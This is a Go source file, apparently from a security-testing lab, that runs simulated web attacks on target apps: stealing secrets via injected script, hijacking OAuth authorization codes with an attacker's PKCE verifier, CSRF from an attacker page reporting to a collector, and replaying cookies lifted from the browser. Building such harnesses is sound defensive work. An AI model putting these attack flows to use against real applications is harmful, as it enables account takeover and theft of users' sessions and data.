package attack

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"

	"cloakroom/shared/lab"
)

// theft is A1: take what lies about, and use it elsewhere.
func (m *mission) theft(ctx context.Context) error {
	got, err := m.inject(ctx, "theft", map[string]string{})
	if err != nil {
		return err
	}
	for _, place := range order {
		if text, ok := got.Places[place]; ok {
			m.step("read %s: %d bytes", place, len(text))
		}
	}
	return m.spend(ctx, sift(got.Places))
}

// newFlow is A3: have the browser fetch a code for a verifier of the attacker's.
func (m *mission) newFlow(ctx context.Context) error {
	verifier, state, redirect := rand.Text()+rand.Text(), rand.Text(), m.world.RedirectURI(m.target)
	sum := sha256.Sum256([]byte(verifier))
	got, err := m.inject(ctx, "newflow", map[string]string{"redirect": redirect, "authorize": m.world.Issuer() + "/authorize?" + url.Values{
		"response_type": {"code"}, "client_id": {m.world.ClientID(m.target.ID)}, "redirect_uri": {redirect}, "scope": {m.world.Scope()},
		"state": {state}, "prompt": {"none"}, "code_challenge_method": {"S256"}, "code_challenge": {base64.RawURLEncoding.EncodeToString(sum[:])},
	}.Encode()})
	if err != nil {
		return err
	}
	code := piece{kind: lab.KindCode}
	for _, place := range []string{"frame", "window"} {
		address, _ := url.Parse(got.Places[place])
		if address != nil && address.Query().Get("state") == state && address.Query().Get("code") != "" {
			code.from, code.value = place, address.Query().Get("code")
		}
	}
	if code.value == "" {
		// Codes leak in other ways, by logs and histories: what the code is worth
		// must not hang on whether this payload could read it.
		if code.value, code.from = m.world.CodeFor(m.target, state), "given by the lab"; code.value == "" {
			m.step("the provider sent no code")
			return nil
		}
		m.step("the code was sent to %s, where the payload could not read it; the lab gives it to the attacker", redirect)
	}
	m.evidence.Taken = append(m.evidence.Taken, code.loot())
	return m.attacker.redeem(ctx, m.target, code, url.Values{
		"grant_type": {"authorization_code"}, "code": {code.value}, "redirect_uri": {redirect}, "code_verifier": {verifier},
	}, &m.evidence)
}

// proxying is A4: leave everything where it is, and use it there.
func (m *mission) proxying(ctx context.Context) error {
	item := "a gift for the attacker " + rand.Text()
	got, err := m.inject(ctx, "proxying", map[string]string{"item": item})
	if err != nil {
		return err
	}
	m.step("the attacker read %d bytes of the page's data", len(got.Places["page"]))
	return m.lookFor(ctx, item)
}

// lookFor notes a change if the victim now has an order for item.
func (m *mission) lookFor(ctx context.Context, item string) error {
	orders, err := m.world.VictimsOrders(ctx)
	if err != nil {
		return err
	}
	for _, order := range orders {
		if strings.HasPrefix(order.Item, item) { // a form adds to it
			m.evidence.Changes = append(m.evidence.Changes, fmt.Sprintf("the victim ordered %q", "a gift for the attacker"))
		}
	}
	return nil
}

// forgery is X1: another site's page, and no script in the victim's.
func (m *mission) forgery(ctx context.Context) error {
	item, before := "a gift for the attacker "+rand.Text(), len(m.world.Visits(0))
	target, _ := m.world.Orders(m.target)
	collector, arrived := m.attacker.expect()
	page := "<!doctype html><title>Kittens</title><body><script type=\"module\">" +
		script("forgery", map[string]string{"collector": collector, "target": target, "item": item}) + "</script>"
	if err := m.browser.Go(ctx, m.attacker.publish(page)); err != nil {
		return fmt.Errorf("attack: open the attacker's page: %w", err)
	}
	got, err := await(ctx, arrived)
	if err != nil {
		return err
	}
	m.step("the victim opened a page of %s, which sent forged requests and reported by %s", m.attacker.origin, got.By)
	for _, v := range m.world.Visits(before) {
		if v.Origin == m.attacker.origin {
			m.evidence.Answers = append(m.evidence.Answers, lab.Answer{By: lab.Browser, Request: v.Request(), Status: v.Status})
		}
	}
	// Without one request at the victim's server, nothing was tried.
	m.evidence.Finished = len(m.evidence.Answers) > 0
	if strings.Contains(got.Places["read"], `"orders":[{`) {
		m.evidence.Changes = append(m.evidence.Changes, "the attacker's page read the victim's orders")
	}
	return m.lookFor(ctx, item)
}

// replay is X10: what is on the device's disk, sent from elsewhere.
func (m *mission) replay(ctx context.Context) error {
	cookies, err := m.browser.Cookies(ctx, m.world.Origin(m.target.ID))
	if err != nil {
		return fmt.Errorf("attack: read the cookies: %w", err)
	}
	if len(cookies) == 0 {
		m.evidence.Missing = "the application has no cookie"
		return nil
	}
	m.evidence.Finished = true
	m.step("the lab copied %d cookies out of the browser's jar, HttpOnly or not, as malware on the device would", len(cookies))
	var header []string
	for _, c := range cookies {
		header = append(header, (&http.Cookie{Name: c.Name, Value: c.Value}).String())
	}
	return m.spend(ctx, sift(map[string]string{placeJar: strings.Join(header, "; ")}))
}
